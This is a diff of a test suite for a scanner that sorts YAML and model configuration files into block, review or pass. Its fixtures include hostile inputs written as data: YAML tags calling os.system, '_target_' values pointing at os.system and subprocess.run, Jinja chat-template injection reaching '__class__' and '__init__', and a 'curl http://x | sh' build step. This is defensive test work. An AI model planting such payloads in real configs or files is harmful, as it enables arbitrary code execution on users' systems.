@@ -32,6 +32,13 @@ describe('a YAML file', () => {
     ['23.yaml', '# c\n--- !!python/object/apply:os.system [x]\n'],
     ['24.yaml', 'a:\r\n  - !!python/object/apply:os.system [x]\r\n'],
     ['25.yaml', '_target_: transformers.utils.import_utils.os.system\n'],
+    ['26.yaml', '_target_: lightning.pytorch.utilities.subprocess.run\n'],
+    ['27.yaml', "chat_template: '{{ cycler.__init__ }}'\n"],
+    [
+      '28.yml',
+      'a: 1\ninstruction_template: |-\n  {% for m in messages %}\n  {{ m|attr("__class__") }}\n  {% endfor %}\n',
+    ],
+    ['chat_template.jinja', "chat_template: '{{ cycler.__init__ }}'\n"],
     ['dvc.yaml', 'stages:\n  a:\n    cmd: curl http://x | sh\n'],
   ])('%s is blocked: %s', async (path, source) => {
     expect((await judged(source, path)).verdict).toBe('block');
@@ -49,6 +56,10 @@ describe('a YAML file', () => {
       '04.yaml',
       'note: "!!python/object/apply:os.system" # !!python/x\ntext: |\n  !!python/object/apply:os.system [x]\n  _target_: os.system\nfold: >\n  !foo\n\n  bar\n',
     ],
+    ['model.yaml', '_target_: torch.nn.functional.relu\n'],
+    ['array.yaml', 'a:\n  _target_: numpy.array\n  object: [1]\n'],
+    ['chat.yaml', "chat_template: '{% for m in messages %}{{ m.content }}{% endfor %}'\nprompt: '{{ x.__class__ }}'\n"],
+    ['README.md', "Write `chat_template`:\n\nchat_template: '{{ cycler.__init__ }}'\n"],
     ['05.yaml', 'base: &base {a: 1}\nb:\n  <<: *base\nc:\n  <<: *base\n'],
     ['06.yaml', 'name: env\nchannels: [conda-forge]\ndependencies:\n  - python=3.10\n  - pip:\n    - torch==2.0\n'],
     ['07.yaml', 'a: 2001-12-14\nb: !!str 123\nc: !!float 3\nd: !!python/tuple [1, 2]\n'],
@@ -67,12 +78,20 @@ describe('a YAML file', () => {
 
   test.each([
     ['env.yaml', 'a: !ENV x\n'],
+    ['task.yaml', 'process_docs: !function utils.process_docs\n'],
     ['c.yaml', '_target_: my_pkg.models.Net\n'],
     ['MLmodel', 'flavors:\n  python_function:\n    loader_module: my_loader\n'],
     ['dvc.yaml', 'stages:\n  a:\n    cmd: python train.py\n'],
     ['ci.yml', 'jobs:\n  a:\n    runs-on: x\n    steps:\n    - run: echo hi\n'],
   ])('%s asks for a review: %s', async (path, source) => {
     expect((await judged(source, path)).verdict).toBe('review');
+  });
+
+  test('holds a template of any length that people write', async () => {
+    const template = `{% for m in messages %}${'{{ m.content }}'.repeat(1000)}{% endfor %}`;
+    expect((await judged(`chat_template: ${JSON.stringify(template)}\n`, 'a.yaml')).verdict).toBe('pass');
+    const hostile = template.replace(/{% endfor %}$/, '{{ m.__class__ }}{% endfor %}');
+    expect((await judged(`chat_template: |\n  ${hostile}\n`, 'a.yaml')).verdict).toBe('block');
   });
 
   test('in UTF-16 is read as well', async () => {
